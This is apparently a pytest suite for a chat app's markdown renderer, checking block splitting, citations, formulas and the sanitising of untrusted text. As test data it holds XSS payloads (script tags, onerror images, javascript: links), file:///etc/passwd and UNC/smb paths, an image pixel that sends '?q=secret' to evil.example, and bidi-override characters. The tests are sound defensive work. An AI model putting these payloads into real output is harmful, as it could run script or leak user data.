from __future__ import annotations

import re

import pytest

from desktop.chat.markdown_blocks import highlight, merge_text, split_blocks


def html(text: str) -> str:
    return "".join(block.html for block in split_blocks(text).blocks)


def test_blocks_are_told_apart() -> None:
    kinds = [block.kind for block in split_blocks("# A\n\ntext\n\n> quote\n\n```py\nx = 1\n```\n").blocks]
    assert kinds == ["text", "text", "quote", "code"]


def test_code_keeps_its_source_and_language() -> None:
    block = split_blocks("```python\nif a < b:\n    pass\n```").blocks[0]
    assert (block.source, block.language) == ("if a < b:\n    pass", "python")


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<style>p{}</style>",
        "<iframe src='http://x'></iframe>",
    ],
)
def test_raw_html_is_shown_as_text(text: str) -> None:
    assert text.split()[0].rstrip(">") not in html(text)
    assert "&lt;" in html(text)


@pytest.mark.parametrize("address", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "vbscript:x"])
def test_dangerous_links_are_dropped(address: str) -> None:
    assert "href" not in html(f"[click]({address})")


def test_an_image_becomes_a_link_that_nothing_loads() -> None:
    shown = html("![a cat](https://example.org/cat.png)")
    assert "<img" not in shown
    assert '<a href="https://example.org/cat.png">a cat</a>' in shown


def test_citations_become_links_to_their_numbers() -> None:
    shown = html("One [1], two [2, 3] and [4][5].")
    assert [n for n in "12345" if f'href="cite:{n}"' in shown] == list("12345")


def test_brackets_in_code_and_links_are_not_citations() -> None:
    assert "cite:" not in html("`a[1]` and [2](https://example.org)")


def test_the_open_part_begins_at_the_last_block() -> None:
    text = "First.\n\nSecond, still being wr"
    assert text[split_blocks(text).open_from :] == "Second, still being wr"


def test_an_unclosed_fence_is_code_already() -> None:
    assert split_blocks("```js\nlet a").blocks[0].kind == "code"


def test_neighbouring_text_is_merged_and_code_is_not() -> None:
    blocks = merge_text(split_blocks("a\n\nb\n\n```\nc\n```\n\nd").blocks)
    assert [block.kind for block in blocks] == ["text", "code", "text"]


def test_an_unknown_language_is_plain() -> None:
    assert "a &lt; b" in highlight("a < b", "no-such-language", dark=False)


@pytest.mark.parametrize(
    "address",
    ["/opt/evil.desktop", "//evil/share/x.exe", "file:///etc/passwd", "javascript:alert(1)", "x.sh", "\\\\evil\\x"],
)
def test_link_without_an_allowed_scheme_is_plain_text(address: str) -> None:
    for text in (f"See [the report](<{address}>).", f"See ![the report](<{address}>)."):
        assert "<a" not in html(text)
        assert "the report" in html(text)


def test_nothing_in_a_text_changes_how_it_is_read() -> None:
    code, text = split_blocks("```sh\nrm \u202egpj\n```\n\nHello \x1b[2J\u2066there\n").blocks
    assert code.source == "rm \ufffdgpj"
    assert text.html == "<p>Hello ␛[2J\ufffdthere</p>"


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://evil.example/pixel.png?q=secret)",
        "![logo][r]\n\n[r]: https://evil.example/reference",
        "[a](javascript:alert(1)) [b](file:///etc/passwd) [c](\\\\evil\\share) [d](data:text/html;base64,PHA+)",
        "<img src=https://evil.example/x> <a href='smb://evil/x'>y</a>",
        "[e](//evil.example/x) [f](/opt/evil.desktop) <javascript:alert(1)>",
    ],
)
def test_nothing_that_a_source_dictates_is_loaded_or_leads_elsewhere_than_a_page(text: str) -> None:
    shown = html(text)
    assert not re.search(r"<(?:img|iframe|object|link|script|style)", shown)
    assert all(address.startswith("https://") for address in re.findall(r'href="([^"]*)"', shown))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("So $x^2$ grows.", "<em>x</em><sup>2</sup>"),
        (r"So \(x^2\) grows.", "<em>x</em><sup>2</sup>"),
        ("$$\nx^2\n$$", "<em>x</em><sup>2</sup>"),
        ("\\[\nx^2\n\\]", "<em>x</em><sup>2</sup>"),
        ("So $$x^2$$ grows.", "<em>x</em><sup>2</sup>"),
    ],
)
def test_formulas_are_set_as_such(text: str, shown: str) -> None:
    assert shown in html(text)


@pytest.mark.parametrize(
    "text", ["It costs $5 and $10.", "From $5-$10 (US$3).", "`$x$` is code.", "An $AAPL and $MSFT.", r"\$x\$ escaped."]
)
def test_prices_and_code_are_no_formulas(text: str) -> None:
    assert "<em>" not in html(text) and "$" in html(text)


def test_task_boxes_are_drawn_and_only_in_lists() -> None:
    shown = html("- [ ] open\n- [x] done\n- [1] cited\n\n[x] not a task")
    assert "☐ open" in shown and "☑ done" in shown and "[x] not a task" in shown


@pytest.mark.parametrize("text", ["> \\[9\\]", "\\[9\\] and x = 3", "\\[see also\\]"])
def test_escaped_brackets_of_a_quotation_are_no_formula(text: str) -> None:
    assert "[" in html(text) and "]" in html(text)
